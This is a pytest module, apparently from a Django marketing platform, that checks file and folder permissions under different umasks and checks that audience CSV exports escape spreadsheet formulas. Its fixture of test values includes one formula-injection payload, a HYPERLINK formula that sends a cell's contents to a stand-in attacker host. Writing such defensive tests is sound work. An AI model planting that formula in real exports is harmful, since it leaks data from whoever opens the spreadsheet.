"""Whatever the platform writes is for its owner and its group, and no cell of it is a formula for whoever opens it."""

import csv
import json
import os
import re
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from pytest_django import Settings

from campaigns.delivery.channels.file import MANIFEST
from campaigns.delivery.channels.registry import export_for
from config import preflight
from config.demo import credentials
from config.postgresql.shares import taken
from config.secret_key import local_secret_key
from customers.private_files import make_private_folder
from tests.campaigns.delivery.audience import Audience, make_audience
from tests.config.served import PROJECT

APPS = ("campaigns", "config", "customers", "funnels", "marketing_solutions", "traces")
# How files are created. The modules named here make them private, which the tests below check.
WRITING = re.compile(
    r"\.mkdir\(|makedirs\(|write_text\(|write_bytes\(|\.touch\((mode|\))|mkstemp\(|O_CREAT|\bopen\([^)]*[\"'][wax]b?\+?[\"']|\.save\(name"
)
WRITERS = {
    "campaigns/delivery/channels/audience_file.py": "test_an_audience_file",
    "campaigns/delivery/channels/file.py": "test_an_audience_file",
    "campaigns/delivery/channels/s3.py": "test_an_audience_file",
    "config/demo/credentials.py": "test_keys_and_credentials",
    "config/postgresql/shares.py": "test_keys_and_credentials",
    "config/secret_key.py": "test_keys_and_credentials",
    "customers/private_files.py": "test_a_folder",
}
CSV = re.compile(r"FORMAT csv|csv\.(Dict)?[wW]riter")
OTHERS = stat.S_IRWXO


@pytest.fixture(params=[0o000, 0o077], ids=["an open mask", "a closed mask"])
def _mask(request: pytest.FixtureRequest) -> Iterator[None]:
    before = os.umask(request.param)
    yield
    os.umask(before)


@pytest.fixture
def audience(db: None) -> Audience:  # noqa: ARG001
    """People whose values are formulas."""
    return make_audience([{"first_name": value} for value in FORMULAS])


def _modes(folder: Path) -> dict[str, int]:
    return {str(path.relative_to(folder)): stat.S_IMODE(path.stat().st_mode) for path in folder.rglob("*")}


def _exported(audience: Audience, settings: Settings, root: Path) -> Path:
    """The file of an audience, in a folder that isn't there yet."""
    settings.EXPORT_ROOT = root
    audiences: dict[str, Any] = settings.STORAGES["audiences"]
    options = audiences["OPTIONS"] | {"location": root}
    settings.STORAGES = settings.STORAGES | {"audiences": audiences | {"OPTIONS": options}}
    export = export_for(audience.message)
    return Path(root / export.export(audience.message, audience.batches()).name)


@pytest.mark.usefixtures("_mask")
def test_an_audience_file(audience: Audience, settings: Settings, tmp_path: Path) -> None:
    file = _exported(audience, settings, tmp_path / "data" / "exports")
    modes = _modes(tmp_path)
    assert {"data", "data/exports"} < modes.keys()
    for name, mode in modes.items():
        assert mode == (0o750 if (tmp_path / name).is_dir() else 0o640), name
    assert file.with_name(file.name + MANIFEST).exists()


@pytest.mark.usefixtures("_mask")
def test_keys_and_credentials(settings: Settings, tmp_path: Path) -> None:
    settings.DATA_DIR = folder = tmp_path / "far" / "data"
    local_secret_key(folder)
    credentials.write({"API_SECRET": "a secret"})
    with taken(folder / "lock"):
        pass
    assert _modes(folder) == dict.fromkeys(["secret_key", "demo.env", "lock"], 0o600)
    assert _modes(tmp_path / "far")["data"] == 0o750


@pytest.mark.usefixtures("_mask")
def test_a_folder(settings: Settings, tmp_path: Path) -> None:
    settings.DATA_DIR = tmp_path / "a" / "b"
    preflight.require_writable_data_directory()
    assert _modes(tmp_path) == {"a": 0o750, "a/b": 0o750}
    (tmp_path / "a" / "b").chmod(0o700)
    make_private_folder(tmp_path / "a" / "b")
    assert _modes(tmp_path) == {"a": 0o750, "a/b": 0o700}
    (tmp_path / "file").touch()
    with pytest.raises(OSError, match="exists"):
        make_private_folder(tmp_path / "file")


def _sources() -> Iterator[tuple[str, str]]:
    for app in APPS:
        for path in (PROJECT / app).rglob("*.py"):
            yield str(path.relative_to(PROJECT)), path.read_text()


def test_no_other_module_writes_files() -> None:
    assert {name for name, text in _sources() if WRITING.search(text)} == WRITERS.keys()
    assert {*WRITERS.values()} <= globals().keys()


# What a program for tables would calculate, and beside it what it would not.
FORMULAS = {
    "=1+1": "'=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+49 30 1": "'+49 30 1",
    "-2": "'-2",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    "\n=1": "'\n=1",
    "a=1": "a=1",
    "": "",
    "'=1": "'=1",
}


def _cells(audience: Audience, settings: Settings, root: Path) -> list[dict[str, str]]:
    with _exported(audience, settings, root).open(newline="") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize("how", [{}, {"escape_formulas": True}])
def test_no_cell_is_a_formula(audience: Audience, settings: Settings, tmp_path: Path, how: dict[str, bool]) -> None:
    audience.destination("file", attributes=["first_name", "=1"], settings=how)
    customer = audience.delivery.members.earliest("customer_id").customer
    customer.external_id = "=2"
    customer.save()
    changed: Any = audience.says(template_id="@x", offer_ids=("-a", "b"))
    object.__setattr__(audience, "message", changed)
    lines = _cells(audience, settings, tmp_path)
    assert [line["first_name"] for line in lines] == list(FORMULAS.values())
    assert lines[0].items() >= {"external_id": "'=2", "template_id": "'@x", "offer_ids": "'-a;b"}.items()
    assert "'=1" in lines[0]


def test_a_machine_is_told_values_as_they_are(audience: Audience, settings: Settings, tmp_path: Path) -> None:
    audience.destination("file", attributes=["first_name"], settings={"escape_formulas": False})
    assert [line["first_name"] for line in _cells(audience, settings, tmp_path)] == list(FORMULAS)
    manifest = next(tmp_path.rglob(f"*{MANIFEST}"))
    assert json.loads(manifest.read_bytes())["columns"][2] == "first_name"


def test_nobody_else_writes_csv() -> None:
    assert [name for name, text in _sources() if CSV.search(text)] == ["campaigns/delivery/channels/audience_file.py"]
